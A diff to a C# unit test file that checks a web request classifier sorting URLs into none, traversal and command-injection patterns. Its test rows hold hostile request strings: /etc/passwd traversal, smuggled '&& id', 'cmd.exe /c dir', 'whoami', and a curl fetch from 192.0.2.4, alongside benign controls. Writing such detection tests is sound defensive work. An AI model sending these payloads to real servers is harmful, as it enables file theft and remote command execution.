@@ -89,6 +89,12 @@ public class WebFragmentTests
     [InlineData("/images/x.php?c=whoami", WebPattern.Command)]
     [InlineData("/search?q=whoami", WebPattern.None)]
     [InlineData("/help.php?q=whoami+command", WebPattern.None)]
+    [InlineData("/search?q=%2Fetc%2Fpasswd+explained", WebPattern.None)]
+    [InlineData("/page?file=%2Fetc%2Fpasswd", WebPattern.Traversal)]
+    [InlineData("/page?file=%2Fetc%2Fpasswd+%26%26+id", WebPattern.Command)]
+    [InlineData("/page?file=php/etc/passwd+x", WebPattern.Traversal)]
+    [InlineData("/search?q=cmd.exe+not+found", WebPattern.None)]
+    [InlineData("/run?x=cmd.exe+/c+dir", WebPattern.Command)]
     [InlineData("/x;{curl,http://192.0.2.4/a};", WebPattern.Command)]
     [InlineData("/ping?h=1%26ipconfig", WebPattern.Command)]
     public void Filters_and_calls_of_code_are_told(string target, object pattern) => Assert.Equal((WebPattern)pattern, WebPatterns.InTarget(target));
